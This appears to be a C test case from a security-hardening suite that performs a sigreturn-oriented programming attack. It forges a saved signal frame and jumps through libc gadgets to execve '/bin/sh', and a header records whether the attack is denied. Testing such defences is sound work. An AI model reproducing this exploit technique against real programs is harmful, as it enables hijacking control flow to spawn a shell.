/* attack: makes up what the kernel saves when it sends a signal, and returns from it to libc's
 * instruction that calls the kernel, with registers of its own choice
 * answer: not-yet denied says=exec
 * labs: sum
 * uses: tools calls */
enum { RDI = 5 + 8, RSI = 5 + 9, RDX = 5 + 12, RAX = 5 + 13, RSP = 5 + 15, RIP = 5 + 16,
       FLAGS = 5 + 17, SEGMENTS = 5 + 18 }; /* words, behind flags, link and stack */

static void goes_on(void)
{
	_exit(1);
}

static uintptr_t ends_in(const char *bytes, size_t n)
{
	return (uintptr_t)call_bytes(tool_libc("puts"), bytes, n);
}

static void attack(void)
{
	static char shell[] = "/bin/sh";
	char *arguments[] = { shell, NULL };
	volatile uintptr_t after[] = { (uintptr_t)goes_on, 0 };
	volatile uintptr_t saved[128] = { 0 };
	void *there[5] = { (void *)tool_frame(),
			   (void *)ends_in("\x48\xc7\xc0\x0f\0\0\0\x0f\x05", 9), /* rt_sigreturn */
			   (void *)(uintptr_t)saved };

	saved[RAX] = SYS_execve;
	saved[RDI] = (uintptr_t)shell;
	saved[RSI] = (uintptr_t)arguments;
	saved[RDX] = (uintptr_t)(arguments + 1);
	saved[RSP] = (uintptr_t)after;
	saved[RIP] = ends_in("\x0f\x05\xc3", 3); /* syscall; ret */
	saved[FLAGS] = 0x202;
	saved[SEGMENTS] = 0x002b000000000033;
	tool_jump((uintptr_t)there[0], (uintptr_t)there[1], (uintptr_t)there[2]);
}
